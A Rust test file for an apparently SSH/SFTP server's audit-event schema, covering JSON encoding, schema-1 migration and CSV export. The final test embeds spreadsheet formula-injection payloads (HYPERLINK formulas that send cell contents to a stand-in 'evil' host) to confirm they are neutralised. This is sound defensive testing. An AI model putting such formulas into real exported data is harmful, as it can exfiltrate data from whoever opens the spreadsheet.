use super::*;

fn context(kind: EventKind) -> Event {
    Event {
        v: SCHEMA_VERSION,
        time: Time::from_millis(1_800_000_000_123),
        node: Some("node-a".into()),
        session: Some("0193a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b".into()),
        source: Some("127.0.0.2:5000".parse().unwrap()),
        account: Some("alice".into()),
        tenant: Some("acme".into()),
        client_version: Some("SSH-2.0-OpenSSH_9.2p1".into()),
        handle: None,
        kind,
    }
}

fn file(op: FileOp, outcome: Outcome) -> EventKind {
    EventKind::File {
        op,
        path: "/in/pay.xml".into(),
        file: Some(FileRef {
            id: 42,
            size: 1 << 20,
        }),
        outcome,
    }
}

/// Every kind and every file operation, as the server writes them.
fn every_kind() -> Vec<Event> {
    let mut kinds = vec![
        EventKind::Connection {
            accepted: false,
            reason: Some("banned".into()),
        },
        EventKind::Auth {
            method: "publickey".into(),
            factor: Factor::First,
            result: AuthResult::Partial,
            reason: None,
            credential: Some("SHA256:abc".into()),
        },
        EventKind::Ban {
            address: "127.0.0.9".into(),
            level: 2,
            until: Time::from_secs(1_800_000_600),
            reason: "spraying".into(),
        },
        EventKind::AccountUnderAttack {
            until: Time::from_secs(1_800_000_600),
        },
        EventKind::Session {
            opened: true,
            methods: Some("publickey+totp".into()),
            credential: Some("SHA256:abc".into()),
            ended_by: None,
        },
        EventKind::RetentionDelete {
            file_id: 7,
            size: 99,
        },
        EventKind::Alert {
            id: "0193e1a2-6b40-7c3e-9a51-2f0d4c8b7e11".into(),
            severity: Severity::Critical,
            rule: "bulk_read".into(),
            techniques: vec!["T1119".into(), "T1030".into()],
            summary: "alice read 80 MiB in 3 s".into(),
            sessions: vec!["s1".into()],
            evidence: vec![4, 9],
            actions: vec!["close_sessions".into(), "lock_account".into()],
        },
        EventKind::AlertDelivery {
            id: "0193e1a2-6b40-7c3e-9a51-2f0d4c8b7e11".into(),
            destination: "webhook".into(),
            outcome: "given_up".into(),
            attempts: 31,
            reason: Some("HTTP 503 Service Unavailable".into()),
        },
        EventKind::Admin {
            command: "session kill --user bob".into(),
            by: "root".into(),
            outcome: "ok".into(),
        },
    ];
    let ops = [
        FileOp::OpenRead,
        FileOp::OpenWrite,
        FileOp::Opendir,
        FileOp::Read,
        FileOp::Write,
        FileOp::CloseRead {
            bytes: 10,
            whole_file: false,
            ranges: None,
        },
        FileOp::CloseRead {
            bytes: 10,
            whole_file: false,
            ranges: Some(vec![(0, 5), (9, 14)]),
        },
        FileOp::CloseWrite {
            bytes: 1 << 20,
            replaced: None,
        },
        FileOp::CloseWrite {
            bytes: 1 << 20,
            replaced: Some(FileRef { id: 7, size: 512 }),
        },
        FileOp::ProgressRead { bytes: 5 },
        FileOp::ProgressWrite { bytes: 6 },
        FileOp::Readdir { entries: Some(3) },
        FileOp::Stat,
        FileOp::Setstat,
        FileOp::Rename {
            to: Some("/done/pay.xml".into()),
            replaced: None,
            moved: None,
        },
        FileOp::Rename {
            to: Some("/done/pay.xml".into()),
            replaced: Some(FileRef { id: 9, size: 40 }),
            moved: None,
        },
        FileOp::Remove,
        FileOp::Mkdir,
        FileOp::Rmdir,
        FileOp::Link,
        FileOp::Other {
            request: "copy-data".into(),
        },
    ];
    let outcomes = [
        Outcome::Ok,
        Outcome::Denied("permission denied: this account is read-only".into()),
        Outcome::Failed {
            code: FailureCode::NoSuchFile,
            message: "no such file or directory".into(),
        },
    ];
    for (i, op) in ops.into_iter().enumerate() {
        kinds.push(file(op, outcomes[i % outcomes.len()].clone()));
    }
    kinds.into_iter().map(context).collect()
}

#[test]
fn every_event_reads_back_into_the_same_value() {
    for e in every_kind() {
        let json = e.to_json_line();
        assert!(!json.contains('\n'));
        let back: Event = serde_json::from_str(&json).unwrap_or_else(|err| panic!("{json}: {err}"));
        assert_eq!(back, e, "{json}");
        // What the ledger stores reads back the same way, unchanged by the upgrade.
        assert_eq!(Event::from_stored(json.as_bytes()).unwrap(), e, "{json}");
    }
}

#[test]
fn events_encode_as_flat_json_with_millisecond_rfc3339_times() {
    let e = context(file(
        FileOp::CloseRead {
            bytes: 1 << 20,
            whole_file: true,
            ranges: None,
        },
        Outcome::Ok,
    ));
    let json = e.to_json_line();
    for part in [
        r#""v":2"#,
        r#""time":"2027-01-15T08:00:00.123Z""#,
        r#""node":"node-a""#,
        r#""kind":"file""#,
        r#""op":"close_read""#,
        r#""bytes":1048576"#,
        r#""whole_file":true"#,
        r#""file":{"id":42,"size":1048576}"#,
        r#""outcome":"ok""#,
        r#""source":"127.0.0.2:5000""#,
    ] {
        assert!(json.contains(part), "{part} missing from {json}");
    }
    let denied = context(file(FileOp::Write, Outcome::Denied("read-only".into()))).to_json_line();
    assert!(
        denied.contains(r#""outcome":{"denied":"read-only"}"#),
        "{denied}"
    );
    let failed = context(file(
        FileOp::Remove,
        Outcome::Failed {
            code: FailureCode::NotEmpty,
            message: "directory not empty".into(),
        },
    ))
    .to_json_line();
    assert!(
        failed.contains(
            r#""outcome":{"failed":{"code":"not_empty","message":"directory not empty"}}"#
        ),
        "{failed}"
    );
}

#[test]
fn bad_times_and_unknown_operations_are_refused() {
    let good = context(file(FileOp::Stat, Outcome::Ok)).to_json_line();
    for bad in [
        good.replace("2027-01-15T08:00:00.123Z", "yesterday"),
        good.replace(r#""op":"stat""#, r#""op":"format_disk""#),
        good.replace(r#""outcome":"ok""#, r#""outcome":"maybe""#),
    ] {
        assert!(serde_json::from_str::<Event>(&bad).is_err(), "{bad}");
    }
}

/// Bodies as schema 1 wrote them (before December 2026).
#[test]
fn schema_1_records_read_into_the_current_types() {
    let v1 = |rest: &str| {
        format!(
            r#"{{"time":1800000000,"source":"127.0.0.2:5000","account":"alice","tenant":"acme","client_version":"SSH-2.0-OpenSSH_9.2p1","session":"7",{rest}}}"#
        )
    };
    let read = |rest: &str| {
        let json = v1(rest);
        Event::from_stored(json.as_bytes()).unwrap_or_else(|e| panic!("{json}: {e}"))
    };
    let e = read(
        r#""kind":"file","op":"close_read","path":"/a","bytes":5,"whole_file":true,"outcome":"ok""#,
    );
    assert_eq!(e.v, 2);
    assert_eq!(e.time, Time::from_secs(1_800_000_000));
    assert_eq!(e.session.as_deref(), Some("7"));
    assert_eq!(
        e.kind,
        EventKind::File {
            op: FileOp::CloseRead {
                bytes: 5,
                whole_file: true,
                ranges: None,
            },
            path: "/a".into(),
            file: None,
            outcome: Outcome::Ok,
        }
    );
    let e = read(
        r#""kind":"file","op":"rename","path":"/a","to":"/b","outcome":"failed: file already exists""#,
    );
    assert_eq!(
        e.kind,
        EventKind::File {
            op: FileOp::Rename {
                to: Some("/b".into()),
                replaced: None,
                moved: None,
            },
            path: "/a".into(),
            file: None,
            outcome: Outcome::Failed {
                code: FailureCode::AlreadyExists,
                message: "file already exists".into()
            },
        }
    );
    let e = read(
        r#""kind":"file","op":"open","path":"/a","outcome":"denied: permission denied: this account is read-only""#,
    );
    assert!(
        matches!(&e.kind, EventKind::File { op: FileOp::OpenWrite, outcome: Outcome::Denied(why), .. } if why.ends_with("read-only")),
        "{e:?}"
    );
    let e = read(r#""kind":"file","op":"copy-data","path":"","outcome":"denied: no""#);
    assert!(
        matches!(&e.kind, EventKind::File { op: FileOp::Other { request }, .. } if request == "copy-data"),
        "{e:?}"
    );
    let e = read(r#""kind":"file","op":"readdir","path":"","entries":3,"outcome":"ok""#);
    assert!(matches!(
        e.kind,
        EventKind::File {
            op: FileOp::Readdir { entries: Some(3) },
            ..
        }
    ));
    let e = read(r#""kind":"ban","address":"127.0.0.9","level":1,"until":1800000600,"reason":"r""#);
    assert!(
        matches!(e.kind, EventKind::Ban { until, .. } if until == Time::from_secs(1_800_000_600))
    );
    let e = read(
        r#""kind":"auth","method":"password","factor":"first","result":"refused","reason":null,"credential":null"#,
    );
    assert!(matches!(
        e.kind,
        EventKind::Auth {
            result: AuthResult::Refused,
            ..
        }
    ));
    let e = read(r#""kind":"session","opened":false"#);
    assert!(matches!(e.kind, EventKind::Session { opened: false, .. }));
    let e = read(r#""kind":"retention_delete","file_id":3,"size":10"#);
    assert!(matches!(
        e.kind,
        EventKind::RetentionDelete {
            file_id: 3,
            size: 10
        }
    ));
    let e = Event::from_stored(
        br#"{"time":1,"source":null,"account":null,"tenant":null,"client_version":null,"session":null,"kind":"admin","command":"user add","by":"root","outcome":"ok"}"#,
    )
    .unwrap();
    assert_eq!(e.source, None);
    assert!(matches!(e.kind, EventKind::Admin { .. }));
}

#[test]
fn only_file_operations_the_gate_let_through_are_permitted_ones() {
    let f = |outcome| Event::new(Time::from_secs(1), file(FileOp::OpenWrite, outcome));
    assert!(f(Outcome::Ok).is_permitted_file_operation());
    assert!(
        f(Outcome::Failed {
            code: FailureCode::NoSuchFile,
            message: "x".into()
        })
        .is_permitted_file_operation()
    );
    assert!(!f(Outcome::Denied("read-only account".into())).is_permitted_file_operation());
    assert!(
        !Event::new(
            Time::from_secs(1),
            EventKind::Session {
                opened: true,
                methods: None,
                credential: None,
                ended_by: None,
            }
        )
        .is_permitted_file_operation()
    );
}

#[test]
fn exported_lines_read_back() {
    for e in every_kind() {
        let line = serde_json::to_string(&Exported {
            seq: 9,
            hash: "ab".repeat(32),
            event: e.clone(),
        })
        .unwrap();
        let back: Exported = serde_json::from_str(&line).unwrap();
        assert_eq!(back.event, e);
        assert_eq!(back.seq, 9);
    }
}

/// What an attacker chooses (a user name in a failed login, a reason) never reaches a CSV
/// cell as a formula: the cell is written with an apostrophe before it; other cells as they are.
#[test]
fn csv_cells_are_never_formulas() {
    use crate::csv::{COLUMNS, row, spreadsheet_safe};
    for trigger in ["=", "+", "-", "@", "\t", "\r"] {
        let v = format!("{trigger}HYPERLINK(\"http://evil/?\"&A1)");
        assert_eq!(spreadsheet_safe(v.clone()), format!("'{v}"));
    }
    for plain in ["", "alice", "/in/=x.csv", "SSH-2.0-x", "'=already", "42"] {
        assert_eq!(spreadsheet_safe(plain.into()), plain);
    }
    let mut e = context(EventKind::Auth {
        method: "password".into(),
        factor: Factor::First,
        result: AuthResult::Refused,
        reason: Some("-unknown account".into()),
        credential: None,
    });
    e.account = Some("=HYPERLINK(\"http://evil\")".into());
    let cells = row(&Exported {
        seq: 1,
        hash: "ab".repeat(32),
        event: e,
    });
    let cell = |name: &str| &cells[COLUMNS.iter().position(|c| *c == name).unwrap()];
    assert_eq!(cell("account"), "'=HYPERLINK(\"http://evil\")");
    assert_eq!(cell("reason"), "'-unknown account");
    assert_eq!(cell("method"), "password");
    assert_eq!(cell("time"), "2027-01-15T08:00:00.123Z");
}
